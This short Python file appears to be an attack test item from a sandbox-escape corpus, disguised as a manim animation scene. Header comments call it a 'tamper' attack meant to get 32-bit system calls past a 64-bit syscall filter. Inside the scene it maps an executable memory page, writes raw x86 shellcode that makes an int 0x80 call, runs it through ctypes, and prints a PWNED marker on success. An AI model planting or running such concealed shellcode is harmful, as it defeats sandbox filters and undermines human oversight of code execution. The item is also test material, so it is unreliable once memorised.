# ATTACK: tamper
# SUCCESS: 32-bit system calls pass a filter of 64-bit ones
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes, mmap
        m = mmap.mmap(-1, 4096, prot=7)
        m.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
        f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
        if f() > 0: print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
